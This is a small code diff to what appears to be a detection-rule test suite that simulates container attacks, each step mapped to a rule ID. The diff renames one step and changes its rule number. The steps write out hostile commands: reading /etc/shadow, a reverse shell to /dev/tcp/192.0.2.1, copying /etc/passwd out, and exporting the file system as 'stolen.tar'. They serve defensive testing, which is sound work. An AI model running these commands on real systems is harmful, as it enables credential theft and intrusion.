@@ -103,7 +103,7 @@ const attack: readonly Step[] = [
   { name: 'a privileged command', run: ['exec', '--privileged', 'victim', 'id'], rule: 88121 },
   { name: 'credentials', run: exec('cat', '/etc/shadow'), rule: 88124 },
   { name: 'a reverse shell', run: exec('sh', '-c', 'echo 0>/dev/tcp/192.0.2.1/1'), rule: 88123 },
-  { name: 'files copied out', run: ['cp', 'victim:/etc/passwd', '-'], rule: 87911 },
+  { name: 'files copied out after a shell', run: ['cp', 'victim:/etc/passwd', '-'], rule: 88200 },
   {
     name: 'the file system exported',
     run: ['export', '-o', path.join(home, 'stolen.tar'), 'victim'],
